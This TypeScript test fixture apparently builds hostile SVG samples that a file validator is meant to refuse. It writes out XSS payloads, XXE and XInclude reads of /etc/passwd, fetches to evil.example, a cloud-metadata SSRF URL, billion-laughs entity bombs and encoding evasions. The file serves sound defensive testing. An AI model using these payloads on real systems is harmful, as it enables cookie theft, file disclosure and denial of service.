import { deflateSync, gzipSync } from 'node:zlib';
import { bytesOf } from './bytes.ts';
import type { HostileFile } from './hostile-file.ts';

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (content: string, attributes = '') =>
  `<svg ${NAMESPACES} width="8" height="8" ${attributes}>${content}</svg>`;
const SCRIPT = svg('<script>alert(document.cookie)</script>');

/** Each entity is ten times the one before: a billion at the end. */
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
/** A single long entity, used many times: no nesting that a parser could forbid. */
const longEntity = `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${svg('&a;'.repeat(5_000))}`;

const asText: readonly (readonly [why: string, text: string])[] = [
  ['plain', svg('<rect width="8" height="8"/>')],
  ['with a declaration', `<?xml version="1.0" encoding="UTF-8"?>${SCRIPT}`],
  ['after spaces', `\n\n   ${SCRIPT}`],
  ['after a comment', `<!-- ${'x'.repeat(2_000)} -->${SCRIPT}`],
  ['after a byte order mark', `\u00ef\u00bb\u00bf${SCRIPT}`],
  ['with a script', SCRIPT],
  ['with a script when it loads', svg('', 'onload="alert(1)"')],
  ['with a script in a link', svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['with a script in an animation', svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['with an external script', svg('<script href="https://evil.example/x.js"/>')],
  ['with a web page inside', svg('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>')],
  ['with an external style', svg('<style>@import "https://evil.example/x.css";</style>')],
  ['with a style sheet', `<?xml-stylesheet href="https://evil.example/x.xsl"?>${svg('')}`],
  ['with an external picture', svg('<image xlink:href="https://evil.example/x.png"/>')],
  ['with a picture from the internal network', svg('<image xlink:href="http://169.254.169.254/"/>')],
  ['with a file of the server', svg('<image xlink:href="file:///etc/passwd"/>')],
  ['with an embedded picture', svg('<image xlink:href="data:image/png;base64,iVBORw0KGgo="/>')],
  ['that uses itself', svg('<g id="a"><use xlink:href="#a"/></g>')],
  ['with an entity from a file', `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${svg('&f;')}`],
  ['with an external entity', `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>${svg('')}`],
  ['with an external document type', `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg('')}`],
  ['with a billion laughs', `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('&l9;')}`],
  ['with one long laugh', longEntity],
  ['that includes a file', svg('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>')],
  ['of a huge size', '<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"/>'],
  ['nested ten thousand times', `${'<svg>'.repeat(10_000)}${'</svg>'.repeat(10_000)}`],
  ['with a filter that never ends', svg('<filter id="a"><feGaussianBlur stdDeviation="99999999"/></filter>')],
];

const asBytes: readonly (readonly [why: string, bytes: Uint8Array])[] = [
  ['in UTF-16', bytesOf('\xff\xfe', Buffer.from(SCRIPT, 'utf16le'))],
  ['in big-endian UTF-16', bytesOf('\xfe\xff', Buffer.from(SCRIPT, 'utf16le').swap16())],
  ['in UTF-16 without a byte order mark', Buffer.from(SCRIPT, 'utf16le')],
  ['in UTF-7', bytesOf('<?xml version="1.0" encoding="UTF-7"?>+ADw-svg+AD4-')],
  ['compressed, SVGZ', gzipSync(SCRIPT)],
  ['compressed with zlib', deflateSync(SCRIPT)],
  ['in base64', bytesOf(Buffer.from(SCRIPT).toString('base64'))],
];

/** SVG files are programs: they can run scripts, read files and fetch URLs. All of them are refused. */
export const vectorPictures: readonly HostileFile[] = [
  ...asText.map(([why, text]) => [why, bytesOf(text)] as const),
  ...asBytes,
].map(([why, bytes]) => ({ why: `an SVG ${why}`, bytes, refusal: 'wrongKind' }));
